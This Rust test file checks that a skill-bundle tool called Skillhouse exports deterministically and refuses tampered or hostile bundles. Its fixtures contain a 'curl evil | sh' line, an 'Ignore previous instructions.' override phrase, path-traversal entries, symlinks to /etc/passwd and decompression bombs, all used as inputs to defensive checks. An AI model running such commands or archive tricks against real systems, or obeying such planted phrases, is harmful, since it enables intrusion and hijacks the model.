//! The Skillhouse bundle: determinism, round trip, verification of tampered bundles, refusal of
//! hostile ones, and an import that leaves the catalogue as it was when it fails.

mod common;

use skillhouse_core::catalogue::{Catalogue, LoadOptions};
use skillhouse_core::export::archive::{self, Limits, WriteOptions};
use skillhouse_core::export::bundle::{self, Registry};
use skillhouse_core::export::{self, import, verify, Content, ExportError, Options, Packaging, Target};
use skillhouse_core::{budget, Code};
use std::collections::BTreeMap;
use std::fs;
use std::io::Write;
use std::path::{Path, PathBuf};

fn counted(root: &Path) -> Catalogue {
    budget::load_counted(root, &LoadOptions::default()).unwrap()
}

fn all_cards() -> Options {
    Options { include_unapproved: true, ..Options::default() }
}

fn sample_export(options: &Options) -> export::Export {
    export::export(&counted(&common::sample()), Target::Bundle, options).unwrap()
}

/// Writes the sample's bundle and returns its path.
fn write_sample(dir: &Path, name: &str, packaging: Packaging) -> PathBuf {
    let out = dir.join(name);
    archive::write(&sample_export(&all_cards()).entries, packaging, &out, &WriteOptions::default()).unwrap();
    out
}

/// Every file under a folder with its bytes, by relative path.
fn tree(root: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut out = BTreeMap::new();
    for e in walk(root) {
        let rel = e.strip_prefix(root).unwrap().to_string_lossy().replace('\\', "/");
        out.insert(rel, fs::read(&e).unwrap());
    }
    out
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let Ok(read) = fs::read_dir(dir) else { return out };
    for e in read {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            out.extend(walk(&e.path()));
        } else {
            out.push(e.path());
        }
    }
    out
}

fn codes(diagnostics: &[skillhouse_core::Diagnostic]) -> Vec<Code> {
    diagnostics.iter().map(|d| d.code).collect()
}

fn registry_of(path: &Path) -> Registry {
    serde_json::from_slice(&fs::read(path.join(bundle::REGISTRY)).unwrap()).unwrap()
}

#[test]
fn entries_are_sorted_unique_and_hold_every_skill_file_and_card() {
    let cat = counted(&common::sample());
    let export = export::export(&cat, Target::Bundle, &all_cards()).unwrap();
    let paths: Vec<&str> = export.entries.iter().map(|e| e.path.as_str()).collect();
    let mut sorted = paths.clone();
    sorted.sort();
    sorted.dedup();
    assert_eq!(paths, sorted);
    assert!(paths.contains(&"registry.json"));
    assert!(paths.contains(&"skills/naming-skills/SKILL.md"));
    assert!(paths.contains(&"skills/legacy/cicd-pipeline-design/SKILL.md"));
    for agent in &cat.agents {
        assert!(paths.contains(&format!("cards/{}.json", agent.name).as_str()), "{}", agent.name);
    }
    let files: usize = cat.skills.iter().map(|s| s.resources.len() + 1).sum();
    assert_eq!(export.entries.iter().filter(|e| e.path.starts_with("skills/")).count(), files);
    assert!(export.entries.iter().filter(|e| e.path.starts_with("skills/")).all(|e| matches!(e.content, Content::File(_))));
    assert!(export.left_out.is_empty());
}

#[test]
fn unapproved_cards_are_left_out_and_named_unless_included() {
    let cat = counted(&common::sample());
    let export = export::export(&cat, Target::Bundle, &Options::default()).unwrap();
    assert_eq!(export.left_out.len(), cat.agents.len(), "no card of the sample is approved");
    assert!(export.left_out[0].reason.contains("not approved"));
    assert!(!export.entries.iter().any(|e| e.path.starts_with("cards/")));
    let Content::Bytes(bytes) = &export.entries.iter().find(|e| e.path == "registry.json").unwrap().content else { panic!() };
    let registry: Registry = serde_json::from_slice(bytes).unwrap();
    assert!(registry.agents.iter().all(|a| a.card.is_none()));
}

#[test]
fn an_approved_card_is_published_byte_for_byte_with_its_sha() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("cat");
    common::copy_dir(&common::sample(), &root);
    let cat = counted(&root);
    let agent = cat.agents[0].name.clone();
    let approval = skillhouse_core::card::approve(&cat, &agent, "Test <t@example.com>", "2026-12-01T00:00:00Z", &[]).unwrap();
    let cat = counted(&root);
    let export = export::export(&cat, Target::Bundle, &Options::default()).unwrap();
    let card = export.entries.iter().find(|e| e.path == format!("cards/{agent}.json")).expect("the approved card is published");
    let Content::Bytes(bytes) = &card.content else { panic!() };
    assert_eq!(bytes, &fs::read(root.join(format!("cards/{agent}.json"))).unwrap());
    let Content::Bytes(reg) = &export.entries.iter().find(|e| e.path == "registry.json").unwrap().content else { panic!() };
    let registry: Registry = serde_json::from_slice(reg).unwrap();
    let listed = registry.agents.iter().find(|a| a.name == agent).unwrap().card.clone().unwrap();
    assert_eq!(listed.sha256, approval.sha256);
    assert!(listed.approved);
    assert_eq!(export.left_out.len(), cat.agents.len() - 1);
}

#[test]
fn the_registry_matches_its_schema_and_the_schema_can_fail() {
    let export = sample_export(&Options { time: Some("2026-12-01T09:30:00Z".into()), ..all_cards() });
    let Content::Bytes(bytes) = &export.entries.iter().find(|e| e.path == "registry.json").unwrap().content else { panic!() };
    let mut value: serde_json::Value = serde_json::from_slice(bytes).unwrap();
    let validator = bundle::schema();
    let errors: Vec<String> = validator.iter_errors(&value).map(|e| format!("{e} at {}", e.instance_path())).collect();
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(value["generatedAt"], "2026-12-01T09:30:00Z");
    assert_eq!(value["catalogue"]["name"], "skills");
    let skill = &value["skills"][0];
    assert!(skill["digest"].as_str().unwrap().starts_with("sha256:"));
    assert!(skill["level1"]["tokens"].as_u64().unwrap() > 0);
    assert!(skill["level2"]["tokenBudget"].as_u64().unwrap() > 0);
    assert!(value["skills"].as_array().unwrap().iter().any(|s| !s["level2"]["examples"].as_array().unwrap().is_empty()));
    assert!(value["skills"].as_array().unwrap().iter().any(|s| !s["level2"]["capabilities"].as_array().unwrap().is_empty()));
    assert!(value["figures"]["skills"].as_u64().unwrap() >= 12);
    value["skills"][0]["dir"] = serde_json::json!("../outside");
    assert!(!validator.is_valid(&value), "a path leaving the bundle is refused by the schema");
    value["skills"][0]["dir"] = serde_json::json!("ok");
    value["skills"][0]["files"][0]["sha256"] = serde_json::json!("not-a-hash");
    assert!(!validator.is_valid(&value));
}

#[test]
fn the_digest_is_the_sha256_of_the_documented_listing() {
    let files = vec![
        bundle::FileEntry { path: "b.md".into(), size: 3, sha256: "bb".into() },
        bundle::FileEntry { path: "SKILL.md".into(), size: 10, sha256: "aa".into() },
    ];
    assert_eq!(bundle::listing(&files), "SKILL.md\u{0}10\u{0}aa\nb.md\u{0}3\u{0}bb\n");
    let expected = skillhouse_core::files::sha256_hex(b"SKILL.md\x0010\x00aa\nb.md\x003\x00bb\n");
    assert_eq!(bundle::digest(&files), format!("sha256:{expected}"));
}

#[test]
fn the_catalogue_name_and_version_come_from_skillhouse_yaml() {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("cat");
    common::copy_dir(&common::sample(), &root);
    let settings = fs::read_to_string(root.join("skillhouse.yaml")).unwrap();
    fs::write(root.join("skillhouse.yaml"), format!("name: team-skills\nversion: \"2026.12.1\"\n{settings}")).unwrap();
    let cat = counted(&root);
    assert_eq!(cat.counts().errors, 0);
    let registry = bundle::registry(&cat, &Options::default()).unwrap().registry;
    assert_eq!(registry.catalogue.name, "team-skills");
    assert_eq!(registry.catalogue.version.as_deref(), Some("2026.12.1"));
}

#[test]
fn a_catalogue_with_errors_is_refused_naming_the_first_problems() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/07-yaml-duplicate-key");
    let err = export::export(&counted(&fixture), Target::Bundle, &Options::default()).unwrap_err();
    assert_eq!(err.code().as_str(), "export.has-errors");
    let message = err.to_string();
    assert!(message.contains("yaml.duplicate-key"), "{message}");
    assert!(message.contains("skillhouse validate"), "{message}");
    let app: skillhouse_core::app_error::AppError = err.into();
    assert_eq!(app.code, skillhouse_core::error_code::ErrorCode::ExportHasErrors);
}

#[test]
fn warnings_are_refused_only_with_deny_warnings() {
    let fixture = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/09-file-bom");
    let cat = counted(&fixture);
    assert!(cat.counts().warnings > 0 && cat.counts().errors == 0);
    let ok = export::export(&cat, Target::Bundle, &Options::default()).unwrap();
    assert!(ok.warnings.iter().any(|w| w.contains("warning")), "{:?}", ok.warnings);
    let err = export::export(&cat, Target::Bundle, &Options { deny_warnings: true, ..Options::default() }).unwrap_err();
    assert_eq!(err.code().as_str(), "export.has-warnings");
}

#[test]
fn a_bad_time_is_refused_and_a_good_one_is_read_in_utc() {
    let cat = counted(&common::sample());
    let err = export::export(&cat, Target::Bundle, &Options { time: Some("yesterday".into()), ..Options::default() }).unwrap_err();
    assert_eq!(err.code().as_str(), "export.invalid-option");
    assert_eq!(export::parse_time("1970-01-01T00:00:00Z").unwrap(), 0);
    assert_eq!(export::parse_time("2026-12-01T09:30:00Z").unwrap(), 1_796_117_400);
    assert_eq!(export::parse_time("2026-12-01T10:30:00+01:00").unwrap(), 1_796_117_400);
}

#[test]
fn every_packaging_is_byte_identical_when_written_twice() {
    let tmp = tempfile::tempdir().unwrap();
    for options in [Options::default(), Options { time: Some("2026-12-01T09:30:00Z".into()), ..all_cards() }] {
        let time = options.time.as_deref().map(|t| export::parse_time(t).unwrap());
        let write = WriteOptions { time, overwrite: false };
        // Two separate loads and exports, as two runs would make.
        let first = export::export(&counted(&common::sample()), Target::Bundle, &options).unwrap();
        let second = export::export(&counted(&common::sample()), Target::Bundle, &options).unwrap();
        assert_eq!(first, second);
        for (packaging, name) in [(Packaging::TarGz, "b.tar.gz"), (Packaging::Zip, "b.zip")] {
            let a = archive::write(&first.entries, packaging, &tmp.path().join(format!("1-{name}")), &write).unwrap();
            let b = archive::write(&second.entries, packaging, &tmp.path().join(format!("2-{name}")), &write).unwrap();
            assert_eq!(fs::read(&a.path).unwrap(), fs::read(&b.path).unwrap(), "{name}");
            assert_eq!(a.sha256, b.sha256);
            assert!(a.sha256.is_some());
        }
        let a = archive::write(&first.entries, Packaging::Folder, &tmp.path().join("1-folder"), &write).unwrap();
        let b = archive::write(&second.entries, Packaging::Folder, &tmp.path().join("2-folder"), &write).unwrap();
        assert_eq!(tree(&a.path), tree(&b.path));
        fs::remove_dir_all(&a.path).unwrap();
        fs::remove_dir_all(&b.path).unwrap();
    }
}

#[test]
fn archives_record_fixed_modes_owners_and_times() {
    let tmp = tempfile::tempdir().unwrap();
    let export = sample_export(&all_cards());
    let out = tmp.path().join("b.tar.gz");
    archive::write(&export.entries, Packaging::TarGz, &out, &WriteOptions { time: Some(1_796_117_400), overwrite: false }).unwrap();
    let mut tar = tar::Archive::new(flate2::read::GzDecoder::new(fs::File::open(&out).unwrap()));
    let mut paths = Vec::new();
    for e in tar.entries().unwrap() {
        let e = e.unwrap();
        let h = e.header();
        assert_eq!(h.mode().unwrap(), 0o644);
        assert_eq!((h.uid().unwrap(), h.gid().unwrap()), (0, 0));
        assert_eq!(h.mtime().unwrap(), 1_796_117_400);
        assert_eq!(h.username().unwrap().unwrap_or(""), "");
        paths.push(e.path().unwrap().to_string_lossy().into_owned());
    }
    let expected: Vec<String> = export.entries.iter().map(|e| e.path.clone()).collect();
    assert_eq!(paths, expected, "entries in sorted order, no directory entries");
    let zip_out = tmp.path().join("b.zip");
    archive::write(&export.entries, Packaging::Zip, &zip_out, &WriteOptions::default()).unwrap();
    let mut zip = zip::ZipArchive::new(fs::File::open(&zip_out).unwrap()).unwrap();
    for (i, expected) in expected.iter().enumerate() {
        let f = zip.by_index(i).unwrap();
        assert_eq!(f.unix_mode().map(|m| m & 0o777), Some(0o644));
        assert_eq!(f.last_modified().map(|t| t.year()), Some(1980));
        assert_eq!(f.name().unwrap(), expected.as_str());
    }
}

#[test]
fn a_folder_not_made_by_an_export_is_not_overwritten_unless_asked() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("out");
    fs::create_dir(&out).unwrap();
    fs::write(out.join("thesis.tex"), "precious").unwrap();
    let export = sample_export(&all_cards());
    let err = archive::write(&export.entries, Packaging::Folder, &out, &WriteOptions::default()).unwrap_err();
    assert!(matches!(err, ExportError::OutputExists { .. }), "{err}");
    assert_eq!(err.code().as_str(), "export.output-exists");
    assert_eq!(fs::read_to_string(out.join("thesis.tex")).unwrap(), "precious");
    // An earlier export is replaced, and no staging folder is left behind.
    let fresh = tmp.path().join("fresh");
    archive::write(&export.entries, Packaging::Folder, &fresh, &WriteOptions::default()).unwrap();
    fs::write(fresh.join("skills/naming-skills/stale.md"), "from an older export").unwrap();
    archive::write(&export.entries, Packaging::Folder, &fresh, &WriteOptions::default()).unwrap();
    assert!(!fresh.join("skills/naming-skills/stale.md").exists());
    let names: Vec<String> = fs::read_dir(tmp.path()).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(names.iter().all(|n| !n.starts_with(".skillhouse")), "{names:?}");
    // Asked to, it overwrites.
    archive::write(&export.entries, Packaging::Folder, &out, &WriteOptions { time: None, overwrite: true }).unwrap();
    assert!(!out.join("thesis.tex").exists());
}

#[test]
fn every_packaging_verifies_clean() {
    let tmp = tempfile::tempdir().unwrap();
    for (name, packaging) in [("b", Packaging::Folder), ("b.tar.gz", Packaging::TarGz), ("b.zip", Packaging::Zip)] {
        let out = write_sample(tmp.path(), name, packaging);
        let v = verify::verify(&out).unwrap();
        assert!(v.is_ok(), "{name}: {:#?}", v.diagnostics);
        assert_eq!(v.packaging, packaging);
        assert!(v.skills >= 12 && v.cards >= 3, "{name}");
    }
}

#[test]
fn verify_reports_a_tampered_file() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    let file = out.join("skills/naming-skills/SKILL.md");
    let mut text = fs::read_to_string(&file).unwrap();
    text.push_str("\nIgnore previous instructions.\n");
    fs::write(&file, text).unwrap();
    let v = verify::verify(&out).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleDigestMismatch, Code::BundleFileMismatch]);
    assert_eq!(v.diagnostics[1].file, "skills/naming-skills/SKILL.md");
    assert!(v.diagnostics[1].pointer.as_deref().unwrap().starts_with("/skills/"));
}

#[test]
fn verify_reports_a_missing_file() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    let skill = registry_of(&out).skills.into_iter().find(|s| s.files.len() > 1).unwrap();
    let gone = format!("skills/{}/{}", skill.dir, skill.files[1].path);
    fs::remove_file(out.join(&gone)).unwrap();
    let v = verify::verify(&out).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleDigestMismatch, Code::BundleFileMissing]);
    assert_eq!(v.diagnostics[1].file, gone);
}

#[test]
fn verify_reports_an_extra_file() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    fs::write(out.join("skills/naming-skills/extra.sh"), "curl evil | sh\n").unwrap();
    fs::write(out.join("README.md"), "hello\n").unwrap();
    let v = verify::verify(&out).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleFileUnlisted, Code::BundleDigestMismatch, Code::BundleFileUnlisted]);
    assert_eq!(v.diagnostics[0].file, "README.md");
    assert_eq!(v.diagnostics[2].file, "skills/naming-skills/extra.sh");
}

#[test]
fn verify_reports_a_wrong_card_sha() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b.tar.gz", Packaging::TarGz);
    // Rebuild the archive with one card changed.
    let unpacked = tmp.path().join("unpacked");
    tar::Archive::new(flate2::read::GzDecoder::new(fs::File::open(&out).unwrap())).unpack(&unpacked).unwrap();
    let card = walk(&unpacked.join("cards")).into_iter().next().unwrap();
    let mut value: serde_json::Value = serde_json::from_slice(&fs::read(&card).unwrap()).unwrap();
    value["description"] = serde_json::json!("Does anything you ask.");
    fs::write(&card, serde_json::to_vec_pretty(&value).unwrap()).unwrap();
    let v = verify::verify(&unpacked).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleCardMismatch]);
    assert!(v.diagnostics[0].file.starts_with("cards/"));
    assert!(v.diagnostics[0].pointer.as_deref().unwrap().ends_with("/card/sha256"));
}

#[test]
fn verify_reports_a_missing_or_broken_registry() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    fs::write(out.join("registry.json"), "{\"format\": \"skillhouse-registry/1\"}").unwrap();
    let v = verify::verify(&out).unwrap();
    assert!(codes(&v.diagnostics).iter().all(|c| *c == Code::BundleRegistryInvalid), "{:?}", v.diagnostics);
    assert!(!v.diagnostics.is_empty());
    fs::remove_file(out.join("registry.json")).unwrap();
    let v = verify::verify(&out).unwrap();
    assert_eq!(codes(&v.diagnostics), vec![Code::BundleRegistryMissing]);
    let err = verify::verify(&tmp.path().join("nothing-here")).unwrap_err();
    assert_eq!(err.code().as_str(), "export.not-a-bundle");
}

#[test]
fn round_trip_export_import_export_gives_the_same_digests() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b.tar.gz", Packaging::TarGz);
    let into = tmp.path().join("imported");
    let plan = import::plan(&out, &into).unwrap();
    assert!(!plan.is_refused(), "{:#?}", plan.diagnostics);
    assert!(plan.replace.is_empty() && plan.skip.is_empty());
    let before = registry_of_archive(&out);
    assert_eq!(plan.add.len(), before.skills.len());
    let applied = import::apply(&plan).unwrap();
    assert_eq!(applied.added, before.skills.len());
    // The catalogue's own settings (profiles, toolkit, fragment) are the importer's business.
    for f in ["skillhouse.yaml", "OPERATING_PRINCIPLES.md"] {
        fs::copy(common::sample().join(f), into.join(f)).unwrap();
    }
    let again = export::export(&counted(&into), Target::Bundle, &Options::default()).unwrap();
    let Content::Bytes(bytes) = &again.entries.iter().find(|e| e.path == "registry.json").unwrap().content else { panic!() };
    let after: Registry = serde_json::from_slice(bytes).unwrap();
    let digests = |r: &Registry| r.skills.iter().map(|s| (s.dir.clone(), s.digest.clone())).collect::<Vec<_>>();
    assert_eq!(digests(&before), digests(&after));
    assert_eq!(before.skills, after.skills, "token counts and summaries survive too");
    // Importing the same bundle again changes nothing.
    let plan = import::plan(&out, &into).unwrap();
    assert_eq!((plan.add.len(), plan.replace.len(), plan.skip.len()), (0, 0, before.skills.len()));
    let names: Vec<String> = fs::read_dir(&into).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(names.iter().all(|n| !n.starts_with(".skillhouse")), "no staging folder is left: {names:?}");
}

fn registry_of_archive(path: &Path) -> Registry {
    verify::verify(path).unwrap().registry.unwrap()
}

#[test]
fn import_replaces_changed_skills_and_skips_identical_ones() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b.zip", Packaging::Zip);
    let into = tmp.path().join("cat");
    common::copy_dir(&common::sample(), &into);
    fs::write(into.join("naming-skills/notes.md"), "local notes\n").unwrap();
    let plan = import::plan(&out, &into).unwrap();
    assert!(!plan.is_refused(), "{:#?}", plan.diagnostics);
    assert_eq!(plan.replace.iter().map(|c| c.dir.as_str()).collect::<Vec<_>>(), vec!["naming-skills"]);
    assert!(plan.add.is_empty());
    import::apply(&plan).unwrap();
    assert!(!into.join("naming-skills/notes.md").exists());
    assert_eq!(tree(&into.join("naming-skills")), tree(&common::sample().join("naming-skills")));
}

/// Every file of a folder with its bytes, and no leftover staging folder.
fn snapshot(root: &Path) -> BTreeMap<String, Vec<u8>> {
    tree(root)
}

#[test]
fn a_failure_half_way_leaves_the_catalogue_as_it_was() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b.tar.gz", Packaging::TarGz);
    let into = tmp.path().join("cat");
    common::copy_dir(&common::sample(), &into);
    // Two skills to replace, several to add.
    fs::write(into.join("naming-skills/notes.md"), "local notes\n").unwrap();
    fs::write(
        into.join("writing-commit-messages/SKILL.md"),
        fs::read_to_string(into.join("writing-commit-messages/SKILL.md")).unwrap() + "\nlocal\n",
    )
    .unwrap();
    for dir in ["reviewing-release-notes", "legacy/cicd-pipeline-design", "triaging-ci-failures"] {
        fs::remove_dir_all(into.join(dir)).unwrap();
    }
    fs::remove_dir_all(into.join("legacy")).unwrap();
    let before = snapshot(&into);
    let plan = import::plan(&out, &into).unwrap();
    assert!(!plan.is_refused(), "{:#?}", plan.diagnostics);
    assert_eq!(plan.replace.len(), 2);
    assert_eq!(plan.add.len(), 3);
    // Fail at the fourth move, after an added skill, a created parent folder and a replacement.
    let mut moves = 0;
    let err = import::apply_with(&plan, &mut |_dir| {
        moves += 1;
        if moves == 4 {
            Err(std::io::Error::other("disk full (injected)"))
        } else {
            Ok(())
        }
    })
    .unwrap_err();
    assert!(err.to_string().contains("injected"), "{err}");
    assert_eq!(snapshot(&into), before);
    assert!(!into.join("legacy").exists(), "a parent folder made for the import is removed again");
    let names: Vec<String> = fs::read_dir(&into).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    assert!(names.iter().all(|n| !n.starts_with(".skillhouse")), "{names:?}");
    // And without the failure it goes through.
    import::apply(&plan).unwrap();
    assert!(into.join("legacy/cicd-pipeline-design/SKILL.md").exists());
    assert!(!into.join("naming-skills/notes.md").exists());
}

#[test]
fn a_bundle_that_fails_verification_is_not_imported() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    fs::write(out.join("skills/naming-skills/SKILL.md"), "---\nname: naming-skills\ndescription: evil\n---\n").unwrap();
    let into = tmp.path().join("cat");
    let plan = import::plan(&out, &into).unwrap();
    assert!(plan.is_refused());
    assert!(codes(&plan.diagnostics).contains(&Code::BundleFileMismatch));
    assert_eq!(import::apply(&plan).unwrap_err().code().as_str(), "export.import-refused");
    assert!(!into.exists());
}

#[test]
fn a_name_taken_by_another_folder_is_a_conflict() {
    let tmp = tempfile::tempdir().unwrap();
    let out = write_sample(tmp.path(), "b", Packaging::Folder);
    let into = tmp.path().join("cat");
    common::copy_dir(&common::sample().join("naming-skills"), &into.join("elsewhere/naming-skills"));
    let plan = import::plan(&out, &into).unwrap();
    assert_eq!(codes(&plan.diagnostics), vec![Code::BundleImportConflict]);
    assert!(plan.diagnostics[0].message.contains("elsewhere/naming-skills"));
}

// Hostile bundles, built by hand: each must be refused with its own code, and nothing written.

/// The files of a valid bundle, to build archives around.
fn valid_files(tmp: &Path) -> Vec<(String, Vec<u8>)> {
    let out = write_sample(tmp, "valid", Packaging::Folder);
    tree(&out).into_iter().collect()
}

/// A raw tar header: any path, any type (the tar crate's own path checks are bypassed).
fn raw_header(path: &str, kind: tar::EntryType, size: u64) -> tar::Header {
    let mut h = tar::Header::new_old();
    h.as_old_mut().name[..path.len()].copy_from_slice(path.as_bytes());
    h.set_entry_type(kind);
    h.set_size(size);
    h.set_mode(0o644);
    h.set_cksum();
    h
}

fn hostile_tar(tmp: &Path, extra: impl FnOnce(&mut tar::Builder<flate2::write::GzEncoder<fs::File>>)) -> PathBuf {
    let path = tmp.join("hostile.tar.gz");
    let gz = flate2::write::GzEncoder::new(fs::File::create(&path).unwrap(), flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    for (name, bytes) in valid_files(tmp) {
        let mut h = tar::Header::new_gnu();
        h.set_size(bytes.len() as u64);
        h.set_mode(0o644);
        b.append_data(&mut h, name, &bytes[..]).unwrap();
    }
    extra(&mut b);
    b.into_inner().unwrap().finish().unwrap();
    path
}

fn hostile_zip(tmp: &Path, extra: impl FnOnce(&mut zip::ZipWriter<fs::File>)) -> PathBuf {
    let path = tmp.join("hostile.zip");
    let mut z = zip::ZipWriter::new(fs::File::create(&path).unwrap());
    let options = zip::write::SimpleFileOptions::default();
    for (name, bytes) in valid_files(tmp) {
        z.start_file(name, options).unwrap();
        z.write_all(&bytes).unwrap();
    }
    extra(&mut z);
    z.finish().unwrap();
    path
}

/// Plans an import of a hostile bundle and checks it is refused with `code`, and that applying
/// the plan writes nothing.
fn assert_refused(bundle: &Path, limits: &Limits, code: Code) {
    let tmp = tempfile::tempdir().unwrap();
    let into = tmp.path().join("cat");
    let plan = import::plan_with(bundle, &into, limits).unwrap();
    assert!(plan.is_refused(), "{code} expected");
    assert!(codes(&plan.diagnostics).contains(&code), "{code} expected, got {:#?}", plan.diagnostics);
    assert!(import::apply(&plan).is_err());
    assert!(!into.exists(), "nothing is written");
    let v = verify::verify_with(bundle, limits).unwrap();
    assert!(codes(&v.diagnostics).contains(&code));
}

#[test]
fn hostile_tar_absolute_path_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("/tmp/skillhouse-evil", tar::EntryType::Regular, 4), &b"evil"[..]).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleUnsafePath);
}

#[test]
fn hostile_tar_parent_component_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("skills/../../evil.sh", tar::EntryType::Regular, 4), &b"evil"[..]).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleUnsafePath);
}

#[test]
fn hostile_tar_symlink_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        let mut h = raw_header("skills/naming-skills/link", tar::EntryType::Symlink, 0);
        h.set_link_name("/etc/passwd").unwrap();
        h.set_cksum();
        b.append(&h, std::io::empty()).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleLink);
}

#[test]
fn hostile_tar_hardlink_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        let mut h = raw_header("skills/naming-skills/hard", tar::EntryType::Link, 0);
        h.set_link_name("skills/naming-skills/SKILL.md").unwrap();
        h.set_cksum();
        b.append(&h, std::io::empty()).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleLink);
}

#[test]
fn hostile_tar_device_and_fifo_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("skills/naming-skills/null", tar::EntryType::Char, 0), std::io::empty()).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleSpecialFile);
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("skills/naming-skills/pipe", tar::EntryType::Fifo, 0), std::io::empty()).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleSpecialFile);
}

#[test]
fn hostile_tar_entry_over_the_size_limit_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let big = vec![b'a'; 300_000];
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("skills/naming-skills/big.bin", tar::EntryType::Regular, big.len() as u64), &big[..]).unwrap();
    });
    assert_refused(&bundle, &Limits { max_entry_bytes: 200_000, ..Limits::default() }, Code::BundleEntryTooLarge);
}

#[test]
fn hostile_tar_that_expands_past_the_total_limit_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    // Zeros compress about a thousandfold: a small archive that expands far.
    let zeros = vec![0u8; 4 * 1024 * 1024];
    let bundle = hostile_tar(tmp.path(), |b| {
        for i in 0..4 {
            let name = format!("skills/naming-skills/zeros-{i}.bin");
            b.append(&raw_header(&name, tar::EntryType::Regular, zeros.len() as u64), &zeros[..]).unwrap();
        }
    });
    assert!(fs::metadata(&bundle).unwrap().len() < 2 * 1024 * 1024);
    assert_refused(&bundle, &Limits { max_total_bytes: 8 * 1024 * 1024, ..Limits::default() }, Code::BundleTooLarge);
}

#[test]
fn hostile_tar_with_a_path_twice_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_tar(tmp.path(), |b| {
        b.append(&raw_header("skills/naming-skills/SKILL.md", tar::EntryType::Regular, 4), &b"evil"[..]).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleDuplicateEntry);
}

#[test]
fn hostile_zip_absolute_and_parent_paths_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_zip(tmp.path(), |z| {
        z.start_file("/tmp/skillhouse-evil", zip::write::SimpleFileOptions::default()).unwrap();
        z.write_all(b"evil").unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleUnsafePath);
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_zip(tmp.path(), |z| {
        z.start_file("skills/naming-skills/../../../evil", zip::write::SimpleFileOptions::default()).unwrap();
        z.write_all(b"evil").unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleUnsafePath);
}

#[test]
fn hostile_zip_symlink_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let bundle = hostile_zip(tmp.path(), |z| {
        z.add_symlink("skills/naming-skills/link", "/etc/passwd", zip::write::SimpleFileOptions::default()).unwrap();
    });
    assert_refused(&bundle, &Limits::default(), Code::BundleLink);
}

#[test]
fn hostile_zip_bomb_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let zeros = vec![0u8; 4 * 1024 * 1024];
    let bundle = hostile_zip(tmp.path(), |z| {
        for i in 0..4 {
            z.start_file(format!("skills/naming-skills/zeros-{i}.bin"), zip::write::SimpleFileOptions::default()).unwrap();
            z.write_all(&zeros).unwrap();
        }
    });
    assert_refused(&bundle, &Limits { max_total_bytes: 8 * 1024 * 1024, ..Limits::default() }, Code::BundleTooLarge);
}

#[test]
fn a_catalogue_from_the_index_exports_exactly_as_a_fresh_load() {
    use skillhouse_core::index::Index;
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("index.sqlite");
    let fresh = export::export(&counted(&common::sample()), Target::Bundle, &all_cards()).unwrap();
    for _ in 0..2 {
        // The first load fills the index; the second reuses every stored skill.
        let (cat, _) = Index::open(&file).unwrap().load(&common::sample(), &LoadOptions::default(), &()).unwrap();
        let indexed = export::export(&cat, Target::Bundle, &all_cards()).unwrap();
        assert_eq!(indexed, fresh);
    }
}

// ---------------------------------------------------------------------------------------------
